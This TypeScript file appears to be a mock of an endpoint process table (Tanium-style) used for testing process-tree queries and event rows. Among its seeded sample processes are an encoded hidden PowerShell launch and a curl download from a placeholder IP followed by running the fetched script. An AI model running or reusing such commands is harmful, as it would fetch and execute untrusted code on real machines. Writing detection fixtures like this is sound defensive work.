import { hashString, mulberry32, zoneless } from '../util.ts';

export interface ProcessNode {
  id: string;
  process_table_id: string;
  parent_process_table_id: string;
  unique_process_id: string;
  pid: number;
  process_path: string;
  process_command_line: string;
  user_name: string;
  group_name: string;
  hash_type_name: string;
  process_hash: string;
  create_time: string;
  create_time_raw: number;
  end_time: string | null;
  end_time_raw: number | null;
  exit_code: number | null;
  children_count: number;
  process_events_count: number;
  file_events_count: number;
  network_events_count: number;
  registry_events_count: number;
  dns_events_count: number;
  driver_events_count: number;
  image_events_count: number;
  security_events_count: number;
}

export type TreeContext = 'parent' | 'node' | 'sibling' | 'child';
export const TREE_CONTEXTS = ['parent', 'node', 'siblings', 'children'] as const;
export const MAX_SIBLINGS = 602;
export const MAX_CHILDREN = 301;

/** The node of the 3.3 examples, and the process with more children and siblings than Tanium returns. */
export const SEEDED_PTIDS = {
  cmd: '72057594038528503',
  explorer: '72057594038528500',
  whoami: '72057594038528504',
  busySvchost: '72057594038600001',
  services: '72057594038600000',
} as const;
export const BUSY_CHILDREN = 350;
export const BUSY_SIBLINGS = 650;

interface Spec {
  ptid: string;
  parent: string;
  pid: number;
  path: string;
  command: string;
  user?: string;
  created: number;
  ended?: number;
}

const BASE_TIME = 1646936944398;

function hashFor(path: string): string {
  const random = mulberry32(hashString(path));
  return Array.from({ length: 32 }, () => Math.floor(random() * 16).toString(16)).join('');
}

function toNode(spec: Spec): ProcessNode {
  const random = mulberry32(hashString(spec.ptid));
  return {
    id: spec.ptid,
    process_table_id: spec.ptid,
    parent_process_table_id: spec.parent,
    unique_process_id: (BigInt(spec.ptid) * -117n + 13n).toString(),
    pid: spec.pid,
    process_path: spec.path,
    process_command_line: spec.command,
    user_name: spec.user ?? 'SYSTEM',
    group_name: spec.user === 'bob' ? 'CORP' : 'NT AUTHORITY',
    hash_type_name: 'MD5',
    process_hash: spec.ptid === SEEDED_PTIDS.cmd ? 'd0956eacc60b294c0e75f4244a99999a' : hashFor(spec.path),
    create_time: zoneless(spec.created),
    create_time_raw: spec.created,
    end_time: spec.ended === undefined ? null : zoneless(spec.ended),
    end_time_raw: spec.ended ?? null,
    exit_code: spec.ended === undefined ? null : 0,
    children_count: 0,
    process_events_count: spec.ended === undefined ? 1 : 2,
    file_events_count: Math.floor(random() * 5),
    network_events_count: Math.floor(random() * 4),
    registry_events_count: Math.floor(random() * 3),
    dns_events_count: Math.floor(random() * 2),
    driver_events_count: 0,
    image_events_count: Math.floor(random() * 20),
    security_events_count: 0,
  };
}

function windowsSpecs(): Spec[] {
  const t = BASE_TIME - 3_600_000;
  const specs: Spec[] = [
    { ptid: '72057594038528496', parent: '0', pid: 4, path: 'System', command: '', created: t },
    {
      ptid: '72057594038528497',
      parent: '72057594038528496',
      pid: 312,
      path: 'C:\\Windows\\System32\\smss.exe',
      command: '\\SystemRoot\\System32\\smss.exe',
      created: t + 1000,
    },
    {
      ptid: '72057594038528498',
      parent: '72057594038528497',
      pid: 604,
      path: 'C:\\Windows\\System32\\winlogon.exe',
      command: 'winlogon.exe',
      created: t + 2000,
    },
    {
      ptid: '72057594038528499',
      parent: '72057594038528498',
      pid: 790,
      path: 'C:\\Windows\\System32\\userinit.exe',
      command: 'C:\\Windows\\system32\\userinit.exe',
      user: 'bob',
      created: t + 3000,
      ended: t + 9000,
    },
    {
      ptid: SEEDED_PTIDS.explorer,
      parent: '72057594038528499',
      pid: 812,
      path: 'C:\\Windows\\explorer.exe',
      command: 'C:\\Windows\\Explorer.EXE',
      user: 'bob',
      created: t + 4000,
    },
    {
      ptid: '72057594038528501',
      parent: SEEDED_PTIDS.explorer,
      pid: 5120,
      path: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      command: '"chrome.exe"',
      user: 'bob',
      created: t + 60_000,
    },
    {
      ptid: '72057594038528502',
      parent: SEEDED_PTIDS.explorer,
      pid: 6400,
      path: 'C:\\Windows\\System32\\notepad.exe',
      command: 'notepad.exe C:\\Users\\bob\\notes.txt',
      user: 'bob',
      created: t + 120_000,
      ended: t + 900_000,
    },
    {
      ptid: SEEDED_PTIDS.cmd,
      parent: SEEDED_PTIDS.explorer,
      pid: 9999,
      path: 'C:\\Windows\\System32\\cmd.exe',
      command: 'cmd.exe /c whoami',
      user: 'bob',
      created: BASE_TIME,
    },
    {
      ptid: SEEDED_PTIDS.whoami,
      parent: SEEDED_PTIDS.cmd,
      pid: 10020,
      path: 'C:\\Windows\\System32\\whoami.exe',
      command: 'whoami',
      user: 'bob',
      created: BASE_TIME + 40,
      ended: BASE_TIME + 95,
    },
    {
      ptid: '72057594038528505',
      parent: SEEDED_PTIDS.explorer,
      pid: 7311,
      path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      command: 'powershell.exe -nop -w hidden -enc SQBFAFgA',
      user: 'bob',
      created: BASE_TIME + 5000,
    },
    {
      ptid: '72057594038599999',
      parent: '72057594038528497',
      pid: 520,
      path: 'C:\\Windows\\System32\\wininit.exe',
      command: 'wininit.exe',
      created: t + 1500,
    },
    {
      ptid: SEEDED_PTIDS.services,
      parent: '72057594038599999',
      pid: 640,
      path: 'C:\\Windows\\System32\\services.exe',
      command: 'C:\\Windows\\system32\\services.exe',
      created: t + 1600,
    },
  ];
  for (let i = 1; i <= BUSY_SIBLINGS + 1; i++) {
    specs.push({
      ptid: (BigInt(SEEDED_PTIDS.services) + BigInt(i)).toString(),
      parent: SEEDED_PTIDS.services,
      pid: 1000 + i * 4,
      path: 'C:\\Windows\\System32\\svchost.exe',
      command: `C:\\Windows\\system32\\svchost.exe -k group${i} -p`,
      created: t + 2000 + i * 10,
    });
  }
  for (let i = 1; i <= BUSY_CHILDREN; i++) {
    specs.push({
      ptid: (72057594038700000n + BigInt(i)).toString(),
      parent: SEEDED_PTIDS.busySvchost,
      pid: 20000 + i * 4,
      path: 'C:\\Windows\\System32\\taskhostw.exe',
      command: `taskhostw.exe job${i}`,
      created: t + 600_000 + i * 1000,
      ended: t + 600_500 + i * 1000,
    });
  }
  return specs;
}

function linuxSpecs(hostname: string): Spec[] {
  const base = 72057594040000000n + BigInt(hashString(hostname) % 1_000_000) * 100n;
  const id = (n: number) => (base + BigInt(n)).toString();
  const t = BASE_TIME - 7_200_000;
  return [
    {
      ptid: id(1),
      parent: '0',
      pid: 1,
      path: '/usr/lib/systemd/systemd',
      command: '/sbin/init',
      user: 'root',
      created: t,
    },
    {
      ptid: id(2),
      parent: id(1),
      pid: 811,
      path: '/usr/sbin/sshd',
      command: 'sshd: /usr/sbin/sshd -D',
      user: 'root',
      created: t + 5000,
    },
    {
      ptid: id(3),
      parent: id(2),
      pid: 4242,
      path: '/usr/bin/bash',
      command: '-bash',
      user: 'dev',
      created: BASE_TIME,
    },
    {
      ptid: id(4),
      parent: id(3),
      pid: 4300,
      path: '/usr/bin/curl',
      command: 'curl -s http://203.0.113.7/x.sh',
      user: 'dev',
      created: BASE_TIME + 1000,
      ended: BASE_TIME + 1400,
    },
    {
      ptid: id(5),
      parent: id(3),
      pid: 4301,
      path: '/home/dev/x.sh',
      command: 'sh /home/dev/x.sh',
      user: 'dev',
      created: BASE_TIME + 2000,
    },
  ];
}

/** One endpoint's process table with parent/child links. */
export class ProcessTable {
  readonly nodes = new Map<string, ProcessNode>();
  readonly children = new Map<string, string[]>();

  constructor(specs: Spec[]) {
    for (const spec of specs) this.nodes.set(spec.ptid, toNode(spec));
    for (const node of this.nodes.values()) {
      const list = this.children.get(node.parent_process_table_id) ?? [];
      list.push(node.process_table_id);
      this.children.set(node.parent_process_table_id, list);
    }
    for (const [parent, list] of this.children) {
      const node = this.nodes.get(parent);
      if (node) node.children_count = list.length;
    }
  }

  static forHost(hostname: string, platform: string | null): ProcessTable {
    return new ProcessTable(
      platform === 'Windows' || hostname === 'test-client-1' ? windowsSpecs() : linuxSpecs(hostname),
    );
  }

  /** The first processes of the table, used as the actors of seeded events. */
  actors(): ProcessNode[] {
    return [...this.nodes.values()].slice(0, 10);
  }

  /** Tanium's tree: ancestors (nearest first, then one pruned node past the depth limit), node, capped siblings and children. */
  tree(
    ptid: string,
    contexts: readonly string[],
    limit: number,
    depthLimit: number,
  ): (ProcessNode & { context: TreeContext })[] {
    const node = this.nodes.get(ptid);
    if (!node) return [];
    const out: (ProcessNode & { context: TreeContext })[] = [];
    if (contexts.includes('parent')) {
      let current = this.nodes.get(node.parent_process_table_id);
      let depth = 0;
      while (current) {
        if (depth === depthLimit) {
          out.push({ ...pruned(current), context: 'parent' });
          break;
        }
        out.push({ ...current, context: 'parent' });
        depth++;
        current = this.nodes.get(current.parent_process_table_id);
      }
    }
    if (contexts.includes('node')) out.push({ ...node, context: 'node' });
    if (contexts.includes('siblings')) {
      const siblings = (this.children.get(node.parent_process_table_id) ?? []).filter((id) => id !== ptid);
      for (const id of siblings.slice(0, Math.min(limit, MAX_SIBLINGS)))
        out.push({ ...this.nodes.get(id)!, context: 'sibling' });
    }
    if (contexts.includes('children')) {
      const children = this.children.get(ptid) ?? [];
      for (const id of children.slice(0, Math.min(limit, MAX_CHILDREN)))
        out.push({ ...this.nodes.get(id)!, context: 'child' });
    }
    return out;
  }
}

function pruned(node: ProcessNode): ProcessNode {
  return {
    ...node,
    pid: 0,
    process_path: '<Pruned Process>',
    process_command_line: '',
    user_name: '',
    group_name: '',
    process_hash: '',
    children_count: 0,
    process_events_count: 0,
    file_events_count: 0,
    network_events_count: 0,
    registry_events_count: 0,
    dns_events_count: 0,
    driver_events_count: 0,
    image_events_count: 0,
    security_events_count: 0,
  };
}

/** `processevents/{ptid}/process` rows: CreateProcess, and EndProcess once it ended. */
export function processRows(node: ProcessNode): Record<string, unknown>[] {
  const base = BigInt(node.process_table_id) * 2n;
  const detail = `${node.pid}: ${node.process_path}`;
  const rows: Record<string, unknown>[] = [
    {
      id: base.toString(),
      type: 'Process',
      operation: 'CreateProcess',
      detail,
      timestamp: node.create_time,
      timestamp_raw: node.create_time_raw,
    },
  ];
  if (node.end_time_raw !== null) {
    rows.push({
      id: (base + 1n).toString(),
      type: 'Process',
      operation: 'EndProcess',
      detail,
      timestamp: node.end_time,
      timestamp_raw: node.end_time_raw,
    });
  }
  return rows;
}
